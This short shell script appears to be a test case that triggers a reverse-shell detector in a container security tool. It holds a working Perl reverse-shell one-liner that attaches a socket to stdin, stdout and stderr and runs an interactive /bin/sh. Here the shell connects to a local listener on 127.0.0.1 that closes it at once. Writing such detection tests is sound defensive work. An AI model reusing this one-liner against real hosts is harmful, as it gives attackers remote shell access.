#!/bin/sh
# action: RedirectStdoutStdinToNetworkConnectionInContainer (perl socket + dup2 onto 0,1,2, exec sh -i)
# expect: system/reverse-shell
# where: container, host
d=$(mktemp -d /var/tmp/vrs.XXXXXX)
perl -MIO::Socket::INET -e '$l=IO::Socket::INET->new(LocalAddr=>"127.0.0.1:0",Listen=>1,ReuseAddr=>1) or die; open(my $p,">",$ARGV[0]); print $p $l->sockport; close $p; if($c=$l->accept){ print $c "exit\n"; sleep 2 }' "$d/port" &
sleep 1
perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")); connect(S,sockaddr_in($ARGV[0],inet_aton("127.0.0.1"))) or die; open(STDIN,">&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec("/bin/sh -i")' "$(cat $d/port)"
wait; rm -rf "$d"
